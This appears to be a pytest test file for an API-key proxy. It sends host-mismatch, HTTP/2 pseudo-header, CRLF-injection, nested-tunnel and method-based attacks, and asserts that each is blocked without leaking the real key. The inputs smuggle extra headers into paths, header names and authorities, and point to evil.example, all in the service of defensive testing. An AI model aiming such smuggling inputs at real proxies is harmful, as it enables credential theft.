"""A request of two minds about where it goes or what it is: HTTP/1.1 and HTTP/2, tunnel, handshake and headers."""

from __future__ import annotations

import socket
from collections.abc import Callable
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from e2e.attacks import BODY, HOST, PATH, known, nothing_left, request, send, sent
from e2e.raw import Line, dial, serving
from e2e.support import House, only_http2
from harness.doubles import Doubles
from harness.h2client import H2Reply, dial_h2
from weir.demo.tlsfiles import Authority
from weir.keys.virtual import PREFIX

pytestmark = pytest.mark.xdist_group("identity-attacks-hosts")


def test_an_absolute_target_inside_a_tunnel_that_names_another_host(house: House) -> None:
    for other in ("api.anthropic.com", "evil.example"):
        house.begin()
        reply = send(house, request(f"Authorization: Bearer {house.key}", path=f"https://{other}{PATH}"))
        assert 400 <= reply.status < 500
        record = nothing_left(house, house.key, reply, "host-mismatch", "virtual-key", "malformed-request")
        assert record["host"] in (HOST, other)


# Where the tunnel leads, what the handshake names, what the request names.
SPLIT = {
    "the header names an attacker's": (f"{HOST}:443", HOST, "evil.example"),
    "the header names another provider": (f"{HOST}:443", HOST, "api.anthropic.com"),
    "the tunnel leads to an attacker's": ("evil.example:443", HOST, HOST),
    "the handshake names another provider": (f"{HOST}:443", "api.anthropic.com", HOST),
    "the tunnel leads to another provider": ("api.anthropic.com:443", HOST, HOST),
    "tunnel and handshake against the header": ("api.anthropic.com:443", "api.anthropic.com", HOST),
}


@pytest.mark.parametrize("how", SPLIT)
def test_a_request_of_two_minds_about_its_host(how: str, house: House) -> None:
    target, sni, host = SPLIT[how]
    reply = send(house, request(f"Authorization: Bearer {house.key}", host=host), target=target, sni=sni)
    assert 400 <= reply.status < 500
    record = nothing_left(house, house.key, reply, "host-mismatch", "virtual-key")
    assert record["key_id"] == known(house) and record["team"] == "finance"


H2 = [(":method", "POST"), (":scheme", "https"), (":path", PATH), (":authority", HOST)]
JSON = ("content-type", "application/json")


def send_h2(house: House, headers: list[tuple[str, str]], trailers: list[tuple[str, str]] | None = None) -> H2Reply:
    """The same over HTTP/2, pseudo-headers as given."""
    plain = dial(house.weir.url, f"{HOST}:443")
    with dial_h2(plain, HOST, only_http2(house.weir.ca)) as line:
        return line.ask([*headers, JSON], BODY, trailers or [])


def changed(name: str, value: str) -> list[tuple[str, str]]:
    """The usual pseudo-headers but for one."""
    return [(key, value if key == name else old) for key, old in H2]


AUTH = ("authorization", "Bearer KEY")
H2_ATTACKS: dict[str, list[tuple[str, str]]] = {
    "an authority of another provider": [*changed(":authority", "api.anthropic.com"), AUTH],
    "an authority of an attacker's": [*changed(":authority", "evil.example"), AUTH],
    "an authority with a user": [*changed(":authority", f"{HOST}@evil.example"), AUTH],
    "a host of an attacker's beside it": [*H2, ("host", "evil.example"), AUTH],
    "a host alone, of an attacker's": [*H2[:3], ("host", "evil.example"), AUTH],
    "two authorities": [*H2, (":authority", "evil.example"), AUTH],
    "two paths": [*H2, (":path", "/v1/models"), AUTH],
    "a pseudo-header behind the others": [*H2[:3], AUTH, H2[3]],
    "a pseudo-header that there isn't": [*H2, (":evil", "1"), AUTH],
    "a path with a line feed": [*changed(":path", f"{PATH}\r\nX-A: 1"), AUTH],
    "a path with a space": [*changed(":path", f"{PATH} HTTP/1.1"), AUTH],
    "an absolute path to an attacker's": [*changed(":path", f"https://evil.example{PATH}"), AUTH],
    "a line feed in the key": [*H2, ("authorization", "Bearer KEY\r\nx-a: 1")],
    "a name in capitals": [*H2, ("Authorization", "Bearer KEY")],
    "a name with a line feed": [*H2, ("x-a\r\nauthorization", "1"), AUTH],
    "a connection header": [*H2, ("connection", "authorization"), AUTH],
    "chunks": [*H2, ("transfer-encoding", "chunked"), AUTH],
    "a cookie": [*H2, AUTH, ("cookie", "a=1"), ("cookie", "k=KEY")],
    "another header": [*H2, AUTH, ("x-trace", "KEY")],
}


@pytest.mark.parametrize("how", H2_ATTACKS)
def test_http2_attacks(how: str, house: House) -> None:
    headers = [(name, value.replace("KEY", house.key)) for name, value in H2_ATTACKS[how]]
    reply = send_h2(house, headers)
    assert reply.status in (0, 400, 401, 403, 421), reply.status
    assert house.doubles.requests() == []
    record = house.only()
    assert record["kind"] in ("block", "error"), record
    assert record.get("reason") or record.get("inspection_reason")
    assert house.key not in str(reply)


@pytest.mark.parametrize("name", ["authorization", "x-trace", "cookie"])
def test_what_stands_in_trailers_goes_nowhere(name: str, house: House) -> None:
    """They are left out, as a proxy may: nobody looks at them."""
    auth = [] if name == "authorization" else [("authorization", f"Bearer {house.key}")]
    reply = send_h2(house, [*H2, *auth], [(name, f"Bearer {house.key}"), ("x-more", "left out")])
    assert reply.status == (200 if auth else 401)
    got = house.doubles.only()
    assert PREFIX not in str(got.headers) and "left out" not in str(got.headers)
    assert bool(auth) is (house.doubles.keys["openai"] in got.header("authorization"))


def test_what_stands_in_trailers_of_chunks_goes_nowhere(house: House) -> None:
    head = (
        f"POST {PATH} HTTP/1.1\r\nHost: {HOST}\r\nAuthorization: Bearer {house.key}\r\nTransfer-Encoding: chunked\r\n"
    )
    data = head.encode() + b"Trailer: X-Trace\r\nContent-Type: application/json\r\n\r\n%x\r\n" % len(BODY) + BODY
    reply = send(house, data + f"\r\n0\r\nX-Trace: {house.key}\r\n\r\n".encode())
    assert reply.status == 200
    assert PREFIX not in sent(house)


def test_a_key_over_plain_http(house: House) -> None:
    parts = urlsplit(house.weir.url)
    with Line(socket.create_connection((parts.hostname or "", parts.port or 0), 20)) as line:
        line.send(request(f"Authorization: Bearer {house.key}", path=f"http://{HOST}{PATH}"))
        reply = line.reply()
    assert reply.status in (401, 403)
    assert nothing_left(house, house.key, reply, "virtual-key")["key_id"] == known(house)


def test_a_server_that_cannot_prove_its_name_gets_no_key(house: House, tmp_path: Path) -> None:
    seen: list[bytes] = []
    context = Authority(tmp_path).listener(("http/1.1",))  # an authority that weir does not trust

    def serve(link: socket.socket) -> None:
        with context.wrap_socket(link, server_side=True) as secured:
            seen.append(secured.recv(65536))

    with serving(house.flaky, serve):
        reply = send(house, request(f"Authorization: Bearer {house.key}"), target=f"{HOST}:7443", sni=HOST)
    assert reply.status == 502 and not any(seen)
    assert house.until(1, "response")[0]["reason"] == "upstream certificate not trusted"


def test_an_address_with_the_name_of_an_ai_service_gets_no_key(house: House) -> None:
    seen: list[bytes] = []
    with serving(house.flaky, lambda link: seen.append(link.recv(65536))):
        target = f"127.0.0.1:{house.flaky}"
        reply = send(house, request(f"Authorization: Bearer {house.key}"), target=target, sni=HOST)
    assert reply.status == 403 and not any(seen)  # not even a connection
    assert house.until(1, "response", "block")[0]["rule_id"] == "destination"


def test_a_tunnel_within_a_tunnel(house: House) -> None:
    head = f"CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nAuthorization: Bearer {house.key}\r\n\r\n"
    reply = send(house, head.encode())
    assert reply.status in (0, 400, 401)
    assert house.doubles.requests() == []
    assert house.only()["kind"] in ("block", "error")


@pytest.mark.parametrize("more", [[], [(":protocol", "websocket"), (":scheme", "https"), (":path", "/v1/realtime")]])
def test_a_tunnel_within_a_tunnel_over_http2(more: list[tuple[str, str]], house: House) -> None:
    auth = ("authorization", f"Bearer {house.key}")
    assert send_h2(house, [(":method", "CONNECT"), *more, (":authority", "evil.example:443"), auth]).status in (0, 400)
    assert house.doubles.requests() == []
    assert house.only()["kind"] in ("block", "error")


@pytest.mark.parametrize("method", ["TRACE", "OPTIONS", "HEAD", "PUT", "PROPFIND"])
def test_another_method_opens_nothing(method: str, house: House) -> None:
    """A server may answer TRACE with all that it was sent."""
    body = b"" if method != "PUT" else BODY
    reply = send(house, request(f"Authorization: Bearer {house.key}", method=method, body=body))
    assert 400 <= reply.status < 500
    assert nothing_left(house, house.key, reply, "virtual-key", "on-failure")["key_id"] == known(house)


@pytest.fixture(scope="module")
def bound(start_module_house: Callable[..., House]) -> House:
    """A proxy whose key of OpenAI's is for one host of theirs, and that has another's for nobody."""
    keys = {"openai": {"secret": "env:OPENAI_API_KEY", "hosts": [HOST]}}
    return start_module_house(keys=keys, services__sanctioned=["openai", "anthropic", "deepseek"])


@pytest.mark.parametrize("host", ["eu.api.openai.com", "api.deepseek.com"])
def test_a_host_that_the_secret_is_not_bound_to(host: str, bound: House, doubles: Doubles) -> None:
    bound.begin()
    reply = send(bound, request(f"Authorization: Bearer {bound.key}", host=host), target=f"{host}:443")
    assert reply.status == 401
    assert nothing_left(bound, bound.key, reply, "virtual-key")["key_id"] == known(bound)
    # Nor by a name that it is bound to, said anywhere but where the connection goes.
    for target, sni, named in ((host, host, HOST), (host, HOST, HOST), (HOST, host, host), (HOST, host, HOST)):
        bound.begin()
        data = request(f"Authorization: Bearer {bound.key}", host=named)
        reply = send(bound, data, target=f"{target}:443", sni=sni)
        assert 400 <= reply.status < 500
        nothing_left(bound, bound.key, reply, "host-mismatch", "virtual-key")


@pytest.mark.parametrize("target", [f"{HOST}.:443", "API.OpenAI.com:443"])
def test_another_spelling_of_a_host_is_that_host(target: str, house: House) -> None:
    """The final dot and capitals: DNS knows no difference, and no rule may."""
    host = target.partition(":")[0]
    reply = send(house, request(f"Authorization: Bearer {house.key}", host=host), target=target, sni=HOST)
    got = sent(house)
    assert PREFIX not in got
    if reply.status == 200:
        assert got.count(house.doubles.keys["openai"]) == 1
    else:
        assert got == ""
    assert {row["service"] for row in house.records() if "service" in row} == {"openai"}
